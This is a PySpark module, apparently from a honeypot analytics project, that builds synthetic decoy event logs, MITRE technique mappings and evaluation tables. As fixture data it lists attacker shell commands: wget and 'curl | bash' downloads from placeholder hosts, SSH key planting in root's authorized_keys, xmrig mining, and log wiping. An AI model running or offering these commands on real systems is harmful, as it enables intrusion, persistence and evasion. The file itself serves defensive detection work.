"""The decoy event log and its side tables, derived from the provided tables.

The provided tables hold no sensor log, so each relation here is a fixed projection of one of
them: `events` becomes the event log, `orders` and `lineitem` become evaluation runs and results.
Everything grows with its source table.
"""

from __future__ import annotations

import functools

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from lureframe.functions.ordered import HOUR_US, number_runs
from lureframe.session import write_once

SESSION_GAP_US = 6 * HOUR_US
COMMANDS = (
    "uname -a",
    "cat /proc/cpuinfo",
    "free -m",
    "cd /tmp",
    "wget http://198.51.100.7/bins/x.sh",
    "wget http://198.51.100.99/bins/x.sh",
    "chmod 777 x.sh",
    "sh x.sh",
    "id",
    "echo 'ssh-rsa AAAAB3Nza' >> /root/.ssh/authorized_keys",
    "cat /etc/passwd | grep root; ls -la /root",
    'echo "wget http://203.0.113.9/a" # id',
    "nohup ./xmrig -o pool.example:3333 &",
    "rm -rf /var/log/*; history -c",
    "ps aux | grep -v 'a;b'",
    "sudo  NETSTAT -tulpn",
    "curl -s http://203.0.113.20/p.sh | bash",
    "crontab -l",
    "tar czf /tmp/o.tgz /etc",
    "systemctl enable x.service",
)
# Worked out by hand from the rule patterns; used by the oracle and the tests, never by the operators.
COMMAND_TECHNIQUES = {
    0: ("T1082",), 1: ("T1082",), 2: ("T1082",), 3: (), 4: ("T1105",), 5: ("T1105",), 6: ("T1222.002",),
    7: ("T1059.004",), 8: ("T1033",), 9: ("T1098.004",), 10: ("T1003.008", "T1083"), 11: (),
    12: ("T1496",), 13: ("T1070.004",), 14: ("T1057",), 15: ("T1049",), 16: ("T1105", "T1059.004"),
    17: (), 18: ("T1005",), 19: ("T1543.002",),
}
ARCH_FILES = ("mirai.arm7", "x86_64", "sora.mpsl", "i686", "payload", "aarch64?x=1")
COUNTRIES = ("CN", "US", "NL", "BR", None, "RU", "VN")
USERS = ("root", "admin", "ubuntu", "pi", "oracle")
LABELS = (
    "Credential brute force", "Reconnaissance", "Botnet loader", "Malware dropper",
    "Cryptominer deployment", "Persistence", "Credential access", "Defense evasion", "Unclassified",
)


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def pick(values, index: Column) -> Column:
    """Element of a literal list by a 0-based column index."""
    return F.element_at(F.array(*[F.lit(v) for v in values]), (index + 1).cast("int"))


def risk_band(score: Column) -> Column:
    return (
        F.when(score >= 80, "critical").when(score >= 60, "high").when(score >= 40, "medium")
        .when(score >= 20, "low").otherwise("informational")
    )


_stored: dict[tuple[str, str, str], DataFrame] = {}


def stored(*order: str):
    """A derived relation as the table it stands for: written on first use in a session, in range
    partitions of `order`, so that filters skip row groups and no key decides a file's size."""

    def wrap(derive):
        @functools.wraps(derive)
        def read(spark: SparkSession, sf_dir: str) -> DataFrame:
            key = (spark.sparkContext.applicationId, sf_dir, derive.__name__)
            if key not in _stored:
                _stored[key] = write_once(derive(spark, sf_dir).repartitionByRange(*order))
            return _stored[key]

        return read

    return wrap


@stored("ts", "event_id")
def events(spark: SparkSession, sf_dir: str) -> DataFrame:
    return derive_events(spark, sf_dir)


def derive_events(spark: SparkSession, sf_dir: str, commands=COMMANDS) -> DataFrame:
    """The event log (a subset of schema.EVENT_COLUMNS plus user_id, session_no and k)."""
    raw = table(spark, sf_dir, "events").select(
        "event_id",
        F.col("ts").cast("timestamp").alias("ts"),
        "user_id",
        "event_type",
        F.regexp_extract("props", r"(-?\d+)", 1).cast("int").alias("k"),
    )
    apart = lambda cur, prev: F.unix_micros(cur["ts"]) - F.unix_micros(prev["ts"]) > SESSION_GAP_US
    numbered = number_runs(raw, ["user_id"], "ts", "event_id", ["ts"], apart, out="session_no")
    u, k, kind = F.col("user_id"), F.col("k"), F.col("event_type")
    click, buy = kind == "click", kind == "purchase"
    ip = F.when(
        u % 10 == 0,
        F.format_string("10.0.%d.%d", F.expr("(user_id div 250) % 256"), u % 250 + 1),
    ).otherwise(F.format_string("62.%d.%d.%d", F.expr("(user_id div 250) % 256"), u % 7, u % 250 + 1))
    action = (
        F.when(kind == "signup", "cowrie.login.success")
        .when(kind == "error", "cowrie.login.failed")
        .when(click, "cowrie.command.input")
        .when((kind == "view") & (k >= 70), "cowrie.session.closed")
        .when(kind == "view", "cowrie.session.connect")
        .otherwise("cowrie.session.file_download")
    )
    login = kind.isin("signup", "error")
    telnet = k % 10 < 3
    score = (u * 7 + k) % 101
    return numbered.select(
        "event_id",
        "ts",
        F.concat_ws("-", u.cast("string"), F.col("session_no").cast("string")).alias("session_id"),
        F.concat(F.lit("hp-"), (u % 4).cast("string")).alias("honeypot_id"),
        F.concat(F.lit("decoy-"), (u % 4).cast("string")).alias("honeypot_name"),
        ip.alias("source_ip"),
        (k + 1024).cast("int").alias("source_port"),
        F.when(u % 10 != 0, pick(COUNTRIES, u % 7)).alias("source_country"),
        F.concat(F.lit("192.0.2."), (u % 4 + 10).cast("string")).alias("destination_ip"),
        F.when(k % 10 == 9, None).when(k % 10 == 8, 0).when(telnet, 23).otherwise(22).cast("int").alias("destination_port"),
        F.when(telnet, "telnet").otherwise("ssh").alias("protocol"),
        action.alias("action"),
        F.when(kind == "view", "network").when(login, "authentication").when(click, "process").otherwise("file").alias("category"),
        F.when(kind == "signup", "success").when(kind == "error", "failure").when(click, "success").alias("outcome"),
        F.when(login, pick(USERS, k % 5)).alias("username"),
        F.when(login, F.concat(F.lit("pw"), (k % 13).cast("string"))).alias("password"),
        F.when(click, pick(commands, k % len(commands))).alias("command_line"),
        F.when(buy, F.concat(F.lit("http://198.51.100."), (k % 20).cast("string"), F.lit("/bins/"), pick(ARCH_FILES, k % 6))).alias("file_url"),
        F.when(buy, F.concat(F.lit("/tmp/.b"), (k % 3).cast("string"))).alias("file_name"),
        F.when(buy, F.sha2(F.concat(F.lit("payload-"), (k % 12).cast("string")), 256)).alias("sha256"),
        (u % 25 == 1).alias("labels_seeded"),
        F.when(u % 6 != 5, score.cast("int")).alias("risk_score"),
        F.when(u % 6 != 5, risk_band(score)).alias("risk_level"),
        F.when(click & (u % 6 != 5), pick(["T1082", "T1105", None, "T1033", "T1070.004"], k % 5)).alias("mitre_technique_id"),
        F.when(u % 6 != 5, pick(LABELS, u % 9)).alias("ai_classification"),
        "user_id",
        "session_no",
        "k",
    )


def analyses(ev: DataFrame) -> DataFrame:
    """Analyses of two thirds of the sessions; a quarter of those were analysed twice."""
    per = ev.groupBy("session_id", "user_id", "session_no").agg(F.max("ts").alias("last_ts"), F.count(F.lit(1)).alias("n"))
    u = F.col("user_id") + F.col("session_no")
    rows = per.filter(u % 3 != 0).withColumn("j", F.explode(F.when(u % 4 == 0, F.array(F.lit(1), F.lit(2))).otherwise(F.array(F.lit(1)))))
    score = (F.col("user_id") * 7 + F.col("session_no") * 13 + F.col("n") * 5 + F.col("j")) % 101
    return rows.select(
        F.concat("session_id", F.lit("-a"), F.col("j").cast("string")).alias("analysis_id"),
        "session_id",
        F.timestamp_micros(F.unix_micros("last_ts") + F.col("j") * HOUR_US).alias("created_at"),
        F.when((u + F.col("j")) % 11 == 0, "failed").otherwise("completed").alias("status"),
        score.cast("int").alias("risk_score"),
        risk_band(score).alias("risk"),
        pick(LABELS, (F.col("user_id") + F.col("session_no") * 3 + F.col("j")) % 9).alias("classification"),
        (u % 5 == 0).alias("_inferred"),
    )


def mappings(ev: DataFrame, an: DataFrame) -> DataFrame:
    """Rule mappings of every analysed session, and one inferred technique for a fifth of them."""
    from lureframe.operators.rules import rule_hits
    from lureframe.sources.reference import catalog

    hits = rule_hits(ev.select("session_id", "command_line")).select("session_id", "technique_id").distinct()
    cat = catalog(ev.sparkSession)
    ruled = an.join(hits, "session_id").select(
        "analysis_id", "technique_id", F.lit(1.0).alias("confidence"), F.lit("rule").alias("source"),
        F.col("technique_id").alias("rule_id"), F.col("created_at").alias("ts"),
    )
    inferred = an.filter("_inferred").select(
        "analysis_id", F.lit("T1110.001").alias("technique_id"), (F.col("risk_score") / 100).alias("confidence"),
        F.lit("llm").alias("source"), F.lit(None).cast("string").alias("rule_id"), F.col("created_at").alias("ts"),
    )
    return ruled.unionByName(inferred).join(
        cat.select("technique_id", F.col("name").alias("technique_name"), "tactic"), "technique_id"
    ).withColumn("mapping_id", F.concat_ws(":", "analysis_id", "technique_id"))


DEPLOYMENTS = (
    # id, sensor, persona, deployed at
    (1, "hp-0", "web-server", "2024-01-05 12:00:00"),
    (2, "hp-0", "nas-box", "2024-01-15 00:00:00"),
    (3, "hp-0", "pre-persona", "2024-01-25 06:30:00"),
    (4, "hp-1", "web-server", "2023-12-20 00:00:00"),
    (5, "hp-1", "iot-arm", "2024-01-15 00:00:00"),
    (6, "hp-1", "nas-box", "2024-01-15 00:00:00"),
    (7, "hp-2", "iot-arm", "2024-02-10 00:00:00"),
)
CHANGES = (
    (1, "hp-0", "2024-01-15 00:00:00", "rate-limit"),
    (2, "hp-0", "2024-01-10 08:00:00", "note"),
    (3, "hp-3", "2024-01-12 00:00:00", "rate-limit"),
    (4, "hp-1", "2024-03-01 00:00:00", "note"),
)
CIDR = (
    ("62.0.0.0/16", "CN"), ("62.0.1.0/24", "TW"), ("62.1.0.0/16", "US"), ("62.2.0.0/15", "NL"),
    ("62.0.4.0/22", "BR"), ("10.0.0.0/8", None), ("198.51.100.0/24", "ZZ"),
)


def deployments(spark: SparkSession) -> DataFrame:
    rows = spark.createDataFrame(list(DEPLOYMENTS), "deployment_id int, honeypot_id string, persona string, deployed_at string")
    return rows.withColumn("deployed_at", F.col("deployed_at").cast("timestamp"))


def changes(spark: SparkSession) -> DataFrame:
    rows = spark.createDataFrame(list(CHANGES), "change_id int, honeypot_id string, at string, kind string")
    return rows.withColumn("at", F.col("at").cast("timestamp"))


def cidr(spark: SparkSession) -> DataFrame:
    return spark.createDataFrame(list(CIDR), "cidr string, country string").filter("country IS NOT NULL")


# --- evaluation relations, from orders and lineitem ---
EXPECTED = (
    ("dropper", 0, "T1105"), ("dropper", 1, "T1222.002"), ("dropper", 2, "T1059.004"), ("ssh_persistence", 0, "T1098.004"),
    ("miner", 0, "T1105"), ("miner", 1, "T1222.002"), ("miner", 2, "T1496"),
)
SERVICES = ("service.ssh", "service.telnet", "service.http")
OS_TEXT = ("Linux box 5.10 Debian 12", "Linux Ubuntu 22.04", "Linux red  hat 8", "no distribution")
HOST_TEXT = ("svr04", "nas3", "127.0.1.1\tsvr04")
ARCH_TEXT = ("x86_64", "GenuineIntel", "CPU architecture: 8", "aarch64-linux-gnu")


def runs(spark: SparkSession, sf_dir: str) -> DataFrame:
    o, key = table(spark, sf_dir, "orders"), F.col("o_orderkey")
    return o.select(
        key.alias("run_id"), F.concat(F.lit("eval-"), F.col("o_custkey").cast("string")).alias("honeypot_id"),
        F.when((F.col("o_orderstatus") == "P") & (key % 3 == 0), "failed").otherwise("completed").alias("status"),
        F.timestamp_micros(F.unix_micros(F.col("o_orderdate").cast("timestamp")) + key).alias("started_at"),
        F.concat(F.lit("h"), (key % 3).cast("string")).alias("honeypot_fingerprint"),
        F.when(key % 5 == 0, "c1").otherwise("c0").alias("evaluation_config_fingerprint"), F.col("o_orderpriority").alias("arm"),
    )


@stored("run_id", "position")
def probe_results(spark: SparkSession, sf_dir: str) -> DataFrame:
    from lureframe.sources.reference import PROBES

    li = table(spark, sf_dir, "lineitem").select(
        F.col("l_orderkey").alias("run_id"), ((F.col("l_partkey") + F.col("l_linenumber")) % 15).cast("int").alias("position"),
        "l_suppkey", "l_returnflag",
    )
    rows = li.groupBy("run_id", "position").agg(F.min("l_suppkey").alias("s"), F.min("l_returnflag").alias("flag"))
    p, s = F.col("position"), F.col("s")
    agent = p < 12
    names = pick([x[0] for x in PROBES] + list(SERVICES), p)
    status = F.when(F.col("flag") == "R", "not_observed").when(F.col("flag") == "A", "observed").when(s % 3 == 0, "unknown").otherwise("observed")
    value = (
        F.when(p <= 1, pick(OS_TEXT, s % 4)).when(p <= 4, pick(HOST_TEXT, s % 3)).when(p == 5, "root").when(p == 6, "root:x:0:0")
        .when(p == 7, "ok").when(p == 8, "GenuineIntel").when(p <= 11, pick(ARCH_TEXT, s % 4)).otherwise("OpenSSH 8.4")
    )
    return rows.select(
        F.concat_ws("-", F.col("run_id").cast("string"), p.cast("string")).alias("result_id"), "run_id",
        F.when(agent, "agent").otherwise("nmap").alias("module"), names.alias("probe_id"),
        pick([x[3] for x in PROBES] + list(SERVICES), p).alias("establishes"),
        F.when(status == "observed", value).alias("value"), status.alias("fact_status"),
        F.when(status == "observed", value).alias("raw_output"), "position",
    )


@stored("run_id", "step_id")
def chain_results(spark: SparkSession, sf_dir: str) -> DataFrame:
    li = table(spark, sf_dir, "lineitem").select(
        F.col("l_orderkey").alias("run_id"), ((F.col("l_suppkey") + F.col("l_linenumber")) % 7).cast("int").alias("c"), "l_linestatus", "l_partkey",
    )
    rows = li.groupBy("run_id", "c").agg(F.min("l_linestatus").alias("ls"), F.min("l_partkey").alias("pk"))
    status = F.when(F.col("pk") % 10 == 0, "unknown").when(F.col("ls") == "F", "observed").otherwise("not_observed")
    tech = pick([e[2] for e in EXPECTED], F.col("c"))
    return rows.select(
        F.concat_ws("-", F.col("run_id").cast("string"), F.lit("c"), F.col("c").cast("string")).alias("step_id"), "run_id",
        pick([e[0] for e in EXPECTED], F.col("c")).alias("chain_id"), pick([e[1] for e in EXPECTED], F.col("c")).alias("step_index"),
        tech.alias("expected_technique_id"), status.alias("fact_status"),
        F.when(status == "observed", tech).alias("matched_rule_id"),
        F.when(status == "observed", F.concat(F.lit("cmd "), F.col("pk").cast("string"))).alias("command"),
    )


@stored("run_id", "characteristic")
def ratings(spark: SparkSession, sf_dir: str) -> DataFrame:
    li = table(spark, sf_dir, "lineitem").select(F.col("l_orderkey").alias("run_id"), (F.col("l_suppkey") % 6).cast("int").alias("c"), "l_partkey")
    rows = li.groupBy("run_id", "c").agg(F.min("l_partkey").alias("pk"))
    from lureframe.sources.reference import CHARACTERISTICS

    status = F.when(F.col("pk") % 7 == 0, "evaluator_failed").when(F.col("pk") % 3 == 0, "unavailable").otherwise("completed")
    return rows.select(
        "run_id", pick(CHARACTERISTICS, F.col("c")).alias("characteristic"),
        F.when(status == "completed", (F.col("pk") % 101) / 100).alias("evaluator_rating"), status.alias("evaluator_status"),
    )


def verdicts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The evaluator's findings in words; some of a characteristic that it gave no rating."""
    li = table(spark, sf_dir, "lineitem").select(F.col("l_orderkey").alias("run_id"), (F.col("l_suppkey") % 6).cast("int").alias("c"), "l_partkey")
    rows = li.groupBy("run_id", "c").agg(F.min("l_partkey").alias("pk")).filter("pk % 5 = 0")
    from lureframe.sources.reference import CHARACTERISTICS

    return rows.select("run_id", pick(CHARACTERISTICS, F.col("c")).alias("characteristic"), F.concat(F.lit("seen "), F.col("pk").cast("string")).alias("verdict"))


# --- rotation experiment: twelve two-day blocks per sensor, four arms ---
ARMS = ("stock", "web-server", "nas-box", "iot-arm")


def rotation(spark: SparkSession) -> DataFrame:
    rows = []
    for s in range(4):
        for b in range(12):
            arm = ARMS[(b + s) % 4]
            rows.append((s * 100 + b, f"hp-{s}", "pre-persona" if arm == "stock" else arm, f"2024-01-{3 + 2 * b:02d} 00:00:00"))
    out = spark.createDataFrame(rows, "deployment_id int, honeypot_id string, persona string, deployed_at string")
    return out.withColumn("deployed_at", F.col("deployed_at").cast("timestamp"))


def with_outputs(ev: DataFrame) -> DataFrame:
    """The event log with what the decoy answered: up to sixty lines for one event in three, no text for another."""
    lines = F.array_join(F.transform(F.sequence(F.lit(1), (F.col("k") % 60 + 1).cast("int")), lambda i: F.concat(F.lit("line "), i.cast("string"))), "\n")
    return ev.withColumn("output", F.when(F.col("k") % 3 == 0, lines).when(F.col("k") % 3 == 1, ""))


# --- model output, from the event log ---
def claims(ev: DataFrame, an: DataFrame) -> tuple[DataFrame, DataFrame]:
    done = an.filter(F.col("analysis_id").endswith("-a1")).select("session_id")
    cl = ev.join(done, "session_id", "left_semi").select(
        F.col("event_id").alias("claim_id"), "session_id",
        pick(["classification", "technique_mapping", "observed_behavior", "indicator"], F.col("k") % 4).alias("kind"),
        F.when(F.col("k") % 4 == 1, "T1082").alias("technique_id"), F.concat(F.lit("claim "), F.col("k").cast("string")).alias("text"), "k",
    )
    cited = (
        F.when(F.col("k") % 5 == 0, F.array(F.col("claim_id") + 1)).when(F.col("k") % 5 == 1, F.array(F.col("claim_id"), F.col("claim_id") + 7))
        .otherwise(F.array("claim_id"))
    )
    ct = cl.select("claim_id", F.explode(cited).alias("event_id")).withColumn("artifact", F.concat(F.lit("event "), F.col("event_id").cast("string")))
    return cl.drop("k"), ct


def recommendations(an: DataFrame) -> DataFrame:
    """Two recommended actions per analysis, some of them without a known priority or a rationale."""
    both = an.select("analysis_id", "session_id", "risk_score", F.explode(F.array(F.lit(0), F.lit(1))).alias("i"))
    n = F.col("risk_score") + F.col("i")
    return both.select(
        "analysis_id", pick(["P1", "P2", "P3", "P9"], n % 4).alias("priority"), F.concat(F.lit("watch "), "session_id", F.lit(" "), F.col("i").cast("string")).alias("action"),
        F.when(n % 5 != 0, F.concat(F.lit("risk "), F.col("risk_score").cast("string"))).alias("rationale"),
    )


PROPOSED = ("T1082", "T1105", "T9999", "T1110.001", "T1033")


def proposals(ev: DataFrame) -> tuple[DataFrame, DataFrame, DataFrame]:
    rows = ev.filter("command_line IS NOT NULL").select("session_id", "event_id", "k", (F.col("k") % 2).cast("int").alias("chunk_no"))
    pr = rows.select(
        F.col("event_id").alias("proposal_id"), "session_id", "chunk_no", pick(PROPOSED, F.col("k") % 5).alias("technique_id"),
        ((F.col("k") % 101) / 100).alias("confidence"), F.concat(F.lit("because "), (F.col("k") % 3).cast("string")).alias("explanation"),
    )
    cites = rows.select(F.col("event_id").alias("proposal_id"), F.when(F.col("k") % 7 != 0, F.col("event_id")).otherwise(F.col("event_id") + 1).alias("event_id"))
    return pr, cites, rows.select("session_id", "chunk_no", "event_id")


def verdict_bodies(ev: DataFrame) -> DataFrame:
    """One model verdict as JSON text per (session, chunk), a few of them unusable."""
    per = ev.groupBy("session_id", F.expr("k div 50").cast("int").alias("chunk_no")).agg(F.min("event_id").alias("e"), F.min("k").alias("k"))
    k = F.col("k")
    body = F.to_json(F.struct(
        F.when(k % 9 == 0, "Something new").otherwise(pick(LABELS, k % 9)).alias("classification"), ((k % 120) / 100).alias("confidence"),
        k.alias("risk_score"), risk_band(k).alias("risk"), F.concat(F.lit("summary "), (k % 4).cast("string")).alias("behavior_summary"),
        F.when(k % 11 == 0, F.array().cast("array<struct<event_id:string,artifact:string>>")).otherwise(
            F.array(F.struct(F.col("e").cast("string").alias("event_id"), F.lit("x").alias("artifact")))
        ).alias("evidence"),
    ))
    return per.select("session_id", "chunk_no", body.alias("body"), "k")
